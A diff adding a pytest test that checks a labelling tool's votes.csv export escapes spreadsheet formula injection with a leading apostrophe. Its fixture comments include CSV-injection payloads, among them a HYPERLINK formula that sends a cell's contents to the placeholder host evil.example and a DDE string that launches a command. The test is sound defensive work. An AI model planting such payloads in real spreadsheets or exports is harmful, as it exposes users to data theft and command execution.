@@ -302,3 +302,30 @@ def test_import_of_a_native_labelstudio_export(store, tmp_path):
     bad.write_text("{oops")
     with pytest.raises(DataError):
         import_labelstudio(store, bad, batch="lab")
+
+
+def test_votes_csv_cannot_run_formulas_in_a_spreadsheet(store, tmp_path):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to Excel,
+    LibreOffice and Google Sheets; it is written with a leading apostrophe instead."""
+    make_study(store, tmp_path, reviewers=("a",), per_image=1, n=4)
+    comments = {
+        "neutrophil_000000.png": '=HYPERLINK("http://evil.example/?"&A1,"see")',
+        "neutrophil_000001.png": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "neutrophil_000002.png": "+1+1",
+        "neutrophil_000003.png": "-2+3",
+        "lymphocyte_000000.png": "\t=1+1",
+        "lymphocyte_000001.png": "\r=1+1",
+        "lymphocyte_000002.png": "looks fine = no formula",
+    }
+    for name, comment in comments.items():
+        vote(store, "a", name, "plausible", comment=comment)
+    export_feedback(store, tmp_path / "out")
+    with open(tmp_path / "out" / "votes.csv", newline="") as f:
+        rows = {r["ID"]: r for r in csv.DictReader(f)}
+    for name, comment in comments.items():
+        written = rows[name]["comment"]
+        if comment[0] in "=+-@\t\r":
+            assert written == "'" + comment, (name, written)
+        else:
+            assert written == comment
+    assert all(r[k][:1] not in ("=", "+", "-", "@", "\t", "\r") for r in rows.values() for k in r)
